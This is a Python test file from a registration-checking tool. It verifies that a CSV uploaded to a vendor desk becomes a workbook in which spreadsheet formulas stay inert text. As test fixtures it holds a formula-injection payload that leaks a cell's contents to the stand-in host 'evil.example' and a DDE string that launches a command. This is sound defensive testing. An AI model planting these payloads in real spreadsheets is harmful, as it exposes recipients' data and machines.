"""Issue 23, broken item 5: a registrant's '=HYPERLINK(...)' in a CSV cell uploaded to the vendor
desk stays text in the annotated workbook the organizer downloads, and the business is not
dropped: the desk reads the CSV's cells as the CLI does (readiness.sheets) and every workbook
written stores text as text."""

from __future__ import annotations

import csv
import json
import zipfile
from pathlib import Path

from readiness.batch.runner import run_batch
from readiness.web.jobs import csv_to_xlsx

EXPORT = Path(__file__).resolve().parents[2] / "examples" / "registrations-form-export.csv"
EVIL = '=HYPERLINK("http://evil.example/x?c="&A1,"Klik di sini")'


def _hostile_csv(path: Path) -> Path:
    with open(EXPORT, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    rows[3][1] = EVIL                       # Dapur Inaq Sari's name, as a formula
    rows[3][12] = "+62 819-1722-3344"       # a phone number starting with '+' stays a phone
    rows[4][2] = "@SUM(1+1)*cmd|' /C calc'!A0"
    with open(path, "w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows(rows)
    return path


def test_a_formula_in_a_csv_stays_text_and_the_business_is_checked(tmp_path):
    src = _hostile_csv(tmp_path / "daftar.csv")
    work = tmp_path / "daftar.xlsx"
    csv_to_xlsx(src, work)                  # what the desk's job runs on
    with zipfile.ZipFile(work) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "HYPERLINK" in sheet

    def names(inp, out):
        run_batch([str(inp)], out, pdf=False, jobs=1, progress=False)
        return [json.loads(x)["business"]["name"]
                for x in (out / "results.jsonl").read_text(encoding="utf-8").splitlines()]

    by_cli, by_desk = names(src, tmp_path / "cli"), names(work, tmp_path / "desk")
    assert EVIL in by_desk and by_desk == by_cli        # not dropped; read as the CLI reads it
    copy = tmp_path / "desk" / "daftar.results.xlsx"
    with zipfile.ZipFile(copy) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet                           # the annotated workbook runs nothing
    import openpyxl

    ws = openpyxl.load_workbook(copy).worksheets[0]
    cell = ws.cell(row=4, column=2)
    assert cell.value == EVIL and cell.data_type == "s"
